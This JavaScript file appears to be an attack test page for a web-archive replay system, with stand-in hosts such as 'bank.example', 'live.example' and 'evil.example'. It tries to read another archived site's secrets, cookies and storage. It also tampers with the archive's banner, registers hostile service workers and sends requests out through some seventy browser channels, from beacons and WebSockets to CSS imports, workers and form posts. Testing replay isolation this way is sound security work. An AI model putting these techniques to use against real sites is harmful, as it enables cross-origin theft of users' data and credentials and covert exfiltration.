// Everything a page can think of to get at another site's content, and to send something out.
// What it reads it puts into `got`; what it sends out bears the attempt's name.
const got = {}, tried = [], failed = {};
const LIVE = "http://live.example/";
const port = location.port ? ":" + location.port : "";
const apart = location.hostname.endsWith(".localhost");
const bank = apart ? `http://${BANK_LABEL}.localhost${port}` : location.origin;
const here = location.origin === "null" ? `${location.protocol}//${location.host}` : location.origin;
const times = ["20110509000000", "20130326000000"];
const origins = [bank, here, `http://localhost${port}`, `http://127.0.0.1${port}`, ""];
const modifiers = ["mp_", "id_", "im_", "js_", "jm_", "if_", "oe_", ""];
const places = (time, path) =>
  origins.flatMap((origin) => modifiers.map((kind) => `${origin}/web/${time}${kind}/http://bank.example/${path}`));
const SECRET = /SECRET-[a-z0-9-]+/;
const seen = (name, text) => { const found = SECRET.exec(String(text)); if (found) got[name] = found[0]; };
const doing = [];
const attempt = (name, act) => {
  tried.push(name);
  doing.push((async () => act())().catch((error) => { failed[name] = String(error); }));
};
const pause = (time) => new Promise((done) => setTimeout(done, time));
const make = (tag, attributes, parent = document.body) => {
  const element = document.createElementNS(
    /^(svg|use|image|feImage|filter|rect)$/.test(tag) ? "http://www.w3.org/2000/svg" : "http://www.w3.org/1999/xhtml", tag);
  for (const [name, value] of Object.entries(attributes)) Reflect.apply(bare.setAttribute, element, [name, value]);
  Reflect.apply(bare.append, parent, [element]);
  return element;
};
const framed = (address) => new Promise((done) => {
  const frame = make("iframe", { src: address });
  frame.onload = () => done(frame);
  setTimeout(() => done(frame), 1500);
});
// The browser's own functions, out of a window that no script of the archive has touched. A page
// without an origin gets none.
const fresh = (() => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  try { return frame.contentWindow.Node && frame.contentWindow; } catch { return window; }
})();
const bare = {
  fetch: fresh.fetch.bind(window), XMLHttpRequest: fresh.XMLHttpRequest, Image: fresh.Image,
  setAttribute: fresh.Element.prototype.setAttribute, append: fresh.Node.prototype.appendChild,
  Worker: fresh.Worker, RTC: fresh.RTCPeerConnection || fresh.webkitRTCPeerConnection,
  beacon: fresh.Navigator.prototype.sendBeacon, open: fresh.open,
  EventSource: fresh.EventSource, SharedWorker: fresh.SharedWorker,
  register: fresh.ServiceWorkerContainer && fresh.ServiceWorkerContainer.prototype.register,
};
// What opens a window by the archive's own script leads the window above within the archive: apart.
const opens = String(bare.open).includes("[native code]");
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));

// What belongs to another site.
for (const [index, time] of times.entries()) {
  const name = index ? "-of-another-date" : "";
  attempt("fetch" + name, () => Promise.all(places(time, "account").map((address) =>
    bare.fetch(address).then((answer) => answer.text()).then((text) => seen("fetch" + name, text)).catch(() => 0))));
  attempt("fetch-by-the-archives-own-way" + name, () => Promise.all(places(time, "account").map((address) =>
    fetch(address).then((answer) => answer.text()).then((text) => seen("fetch-by-the-archives-own-way" + name, text)).catch(() => 0))));
  attempt("xhr" + name, () => Promise.all(places(time, "account").map((address) => new Promise((done) => {
    const asked = new bare.XMLHttpRequest();
    asked.onloadend = () => { seen("xhr" + name, asked.responseText); done(); };
    asked.open("GET", address);
    asked.send();
  }))));
}
attempt("fetch-of-data", () => Promise.all(places(times[0], "data.json").map((address) =>
  bare.fetch(address).then((answer) => answer.text()).then((text) => seen("fetch-of-data", text)).catch(() => 0))));
attempt("import-of-data", () => Promise.all(places(times[0], "data.json").map((address) =>
  import(address, { with: { type: "json" } }).then((held) => seen("import-of-data", JSON.stringify(held.default))).catch(() => 0))));
attempt("fetch-in-a-worker", () => new Promise((done) => {
  const text = `Promise.all(${JSON.stringify(places(times[0], "account"))}.map((address) =>
    fetch(address).then((answer) => answer.text()).then((text) => postMessage(text)).catch(() => 0)))`;
  new bare.Worker(blob(text)).onmessage = (event) => seen("fetch-in-a-worker", event.data);
  setTimeout(done, 1500);
}));
attempt("dom-of-a-frame", async () => {
  for (const address of places(times[0], "account").slice(0, 12)) {
    const frame = await framed(address);
    try { seen("dom-of-a-frame", frame.contentDocument.documentElement.textContent); } catch {}
    try { seen("cookies-through-a-frame", frame.contentDocument.cookie); } catch {}
    try { seen("storage-through-a-frame", JSON.stringify(frame.contentWindow.localStorage)); } catch {}
    try { document.domain = apart ? "localhost" : document.domain; seen("document-domain", frame.contentDocument.body.textContent); } catch {}
    frame.remove();
  }
});
tried.push("cookies-through-a-frame", "storage-through-a-frame", "document-domain");
attempt("cookies", () => seen("cookies", document.cookie));
attempt("cookies-untouched", () => seen("cookies-untouched",
  Object.getOwnPropertyDescriptor(fresh.Document.prototype, "cookie").get.call(document)));
attempt("local-storage", () => { seen("local-storage", JSON.stringify(localStorage)); seen("local-storage", JSON.stringify(fresh.localStorage)); });
attempt("session-storage", () => seen("session-storage", JSON.stringify(sessionStorage)));
attempt("indexed-db", async () => {
  const held = await indexedDB.databases();
  seen("indexed-db", JSON.stringify(held));
});
attempt("cache-storage", async () => seen("cache-storage", JSON.stringify(await caches.keys())));
attempt("broadcast-channel", async () => {
  new BroadcastChannel("bank").onmessage = (event) => seen("broadcast-channel", event.data);
  for (const origin of [bank, ""]) await framed(`${origin}/web/${times[0]}if_/http://bank.example/login`);
  await pause(500);
});
attempt("shared-worker", async () => {
  for (const origin of [bank, here, ""]) {
    try {
      const worker = new bare.SharedWorker(`${origin}/web/${times[0]}js_/http://bank.example/shared.js`, "bank");
      worker.port.onmessage = (event) => seen("shared-worker", event.data);
    } catch {}
  }
  await pause(800);
});
attempt("pixels-of-a-picture", () => Promise.all(places(times[0], "secret.png").map((address) => new Promise((done) => {
  const image = new bare.Image();
  image.onerror = done;
  image.onload = () => {
    const canvas = document.createElement("canvas");
    const pen = canvas.getContext("2d");
    pen.drawImage(image, 0, 0);
    try { pen.getImageData(0, 0, 1, 1); if (image.naturalWidth) got["pixels-of-a-picture"] = "read"; } catch {}
    done();
  };
  image.src = address;
}))));
attempt("text-of-a-window", async () => {
  if (!opens) return;
  const opened = Reflect.apply(bare.open, window, [`${bank}/web/${times[0]}mp_/http://bank.example/account`]);
  await pause(500);
  seen("text-of-a-window", opened.document.body.textContent);
});

// What belongs to the archive.
attempt("document-of-the-banner", () => { got["document-of-the-banner"] = top.document.title; });
attempt("element-of-the-frame", () => { if (window.frameElement) got["element-of-the-frame"] = "read"; });
attempt("hide-the-banner", () => { top.document.querySelector(".banner").hidden = true; got["hide-the-banner"] = "hidden"; });
attempt("fill-the-screen", async () => { await document.documentElement.requestFullscreen(); got["fill-the-screen"] = "filled"; });
attempt("script-in-the-banner", () => { top.eval("1"); got["script-in-the-banner"] = "ran"; });
attempt("service-worker", async () => {
  const workers = navigator.serviceWorker;
  for (const address of ["sw.js", `/web/${times[0]}js_/http://evil.example/sw.js`, `/web/${times[0]}id_/http://evil.example/sw.js`]) {
    try { if (await Reflect.apply(bare.register, workers, [address])) got["service-worker"] = address; } catch {}
    try { if (await Reflect.apply(bare.register, workers, [address, { scope: "/" }])) got["service-worker"] = address; } catch {}
  }
});

// What is out there. Each asks for its own name.
const live = (name, act) => attempt(name, () => act(LIVE + name));
live("img", (to) => { new bare.Image().src = to; });
live("img-srcset", (to) => make("img", { srcset: to + " 1x" }));
live("picture", (to) => { const held = make("picture", {}); make("source", { srcset: to }, held); make("img", {}, held); });
live("live-fetch", (to) => bare.fetch(to));
live("fetch-no-cors", (to) => bare.fetch(to, { mode: "no-cors", keepalive: true }));
live("fetch-of-an-async-function", (to) => (async () => {}).constructor("a", "return fetch(a)")(to));
live("live-xhr", (to) => { const asked = new bare.XMLHttpRequest(); asked.open("GET", to); asked.send(); });
live("xhr-at-once", (to) => { const asked = new bare.XMLHttpRequest(); asked.open("GET", to, false); asked.send(); });
live("beacon", (to) => Reflect.apply(bare.beacon, navigator, [to, "x"]));
live("websocket", (to) => new WebSocket(to.replace("http", "ws")));
live("event-source", (to) => new bare.EventSource(to));
live("css-background", (to) => make("p", { style: `background: url(${to})` }));
live("css-import", (to) => { make("style", {}).textContent = `@import "${to}";`; });
live("css-cursor", (to) => { make("style", {}).textContent = `body { cursor: url(${to}), auto; list-style: url(${to}) }`; make("li", {}).textContent = "x"; });
live("css-content", (to) => { make("style", {}).textContent = `body::before { content: url(${to}); border-image: url(${to}) 1 }`; });
live("style-sheet", (to) => make("link", { rel: "stylesheet", href: to }, document.head));
live("font-face", (to) => new FontFace("f", `url(${to})`).load());
live("font-in-css", (to) => { make("style", {}).textContent = `@font-face { font-family: g; src: url(${to}) } p.g { font-family: g }`; make("p", { class: "g" }).textContent = "g"; });
live("script", (to) => make("script", { src: to }));
live("module", (to) => make("script", { src: to, type: "module" }));
live("module-inline", (to) => { const one = document.createElement("script"); one.type = "module"; one.textContent = `import "${to}";`; document.body.append(one); });
live("import", (to) => import(to));
live("worker", (to) => new bare.Worker(to));
live("worker-fetch", (to) => { new bare.Worker(blob(`fetch("${to}")`)); });
live("worker-import-scripts", (to) => { new bare.Worker(blob(`importScripts("${to}")`)); });
live("worker-in-a-worker", (to) => { new bare.Worker(blob(`new Worker(URL.createObjectURL(new Blob(["fetch('${to}')"])))`)); });
live("shared-worker-fetch", (to) => { new bare.SharedWorker(blob(`fetch("${to}")`)); });
live("data-worker", (to) => { new bare.Worker("data:text/javascript,fetch('" + to + "')"); });
live("paint-worklet", (to) => CSS.paintWorklet.addModule(to));
live("audio-worklet", (to) => new AudioContext().audioWorklet.addModule(to));
live("frame", (to) => make("iframe", { src: to }));
live("frame-native-fetch", (to) => fresh.fetch(to));
live("frame-srcdoc", (to) => make("iframe", { srcdoc: `<script>fetch("${to}")</` + `script><img src="${to}">` }));
live("frame-blob", (to) => make("iframe", { src: blob(`<script>fetch("${to}")</` + `script><img src="${to}">`, "text/html") }));
live("frame-data", (to) => make("iframe", { src: `data:text/html,<script>fetch("${to}")</` + `script><img src="${to}">` }));
live("frame-javascript", (to) => make("iframe", { src: `javascript:fetch("${to}")` }));
live("frame-moved", (to) => { const frame = make("iframe", {}); frame.contentWindow.location = to; });
live("frame-of-stored-bytes", (to) => make("iframe", { src: `/web/${times[0]}id_/http://evil.example/stored` }));
live("frame-set", (to) => { const held = make("frameset", {}); make("frame", { src: to }, held); });
live("inner-html", (to) => { const held = make("div", {}); Object.getOwnPropertyDescriptor(fresh.Element.prototype, "innerHTML").set.call(held, `<img src="${to}"><video src="${to}"></video>`); });
live("written", (to) => { const held = make("iframe", {}).contentDocument; held.open(); held.write(`<img src="${to}">`); });
live("prefetch", (to) => make("link", { rel: "prefetch", href: to }, document.head));
live("prerender", (to) => make("link", { rel: "prerender", href: to }, document.head));
live("preload", (to) => make("link", { rel: "preload", as: "script", href: to }, document.head));
live("modulepreload", (to) => make("link", { rel: "modulepreload", href: to }, document.head));
live("icon", (to) => make("link", { rel: "icon", href: to }, document.head));
live("manifest", (to) => make("link", { rel: "manifest", href: to }, document.head));
live("preconnect", () => make("link", { rel: "preconnect", href: "http://preconnect.example/" }, document.head));
live("dns-prefetch", () => make("link", { rel: "dns-prefetch", href: "http://dns-prefetch.example/" }, document.head));
live("speculation-rules", (to) => {
  const one = document.createElement("script");
  one.type = "speculationrules";
  const rule = [{ source: "list", urls: [to], eagerness: "immediate" }];
  one.textContent = JSON.stringify({ prefetch: rule, prerender: rule });
  document.head.append(one);
});
live("form-post", (to) => { make("iframe", { name: "hidden" }); make("form", { action: to, method: "post", target: "hidden" }).submit(); });
live("form-get", (to) => { make("iframe", { name: "hidden2" }); make("form", { action: to, target: "hidden2" }).submit(); });
live("svg-use", (to) => make("use", { href: to + "#x" }, make("svg", {})));
live("svg-image", (to) => make("image", { href: to }, make("svg", {})));
live("svg-filter", (to) => make("feImage", { href: to }, make("filter", {}, make("svg", {}))));
live("video", (to) => make("video", { src: to, preload: "auto" }));
live("video-poster", (to) => make("video", { poster: to }));
live("audio", (to) => { new Audio().src = to; make("audio", { src: to, preload: "auto", autoplay: "" }); });
live("track", (to) => { const held = make("video", {}); make("track", { src: to, default: "" }, held).track.mode = "showing"; });
live("object", (to) => make("object", { data: to }));
live("embed", (to) => make("embed", { src: to }));
live("input-image", (to) => make("input", { type: "image", src: to }));
live("body-background", (to) => Reflect.apply(bare.setAttribute, document.body, ["background", to]));
live("ping", (to) => { const link = make("a", { href: "#nowhere", ping: to }); link.click(); });
live("attribution", (to) => make("img", { attributionsrc: to, src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" }));
live("xslt", (to) => make("iframe", { src: blob(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${to}"?><a/>`, "text/xml") }));
live("payment", (to) => new PaymentRequest([{ supportedMethods: to.replace("http:", "https:") }], { total: { label: "x", amount: { currency: "GBP", value: "1" } } }).canMakePayment());
live("fetch-later", (to) => { if (window.fetchLater) fetchLater(to, { activateAfter: 0 }); });
live("web-transport", (to) => new WebTransport(to.replace("http:", "https:")).ready);
live("window", (to) => opens && Reflect.apply(bare.open, window, [to]));
live("policy-report", (to) => make("meta", { "http-equiv": "Content-Security-Policy", content: `manifest-src 'none'; report-uri ${to}` }, document.head));
Promise.allSettled(doing).then(() => { window.done = true; });
setTimeout(() => { window.done = true; }, 12000);
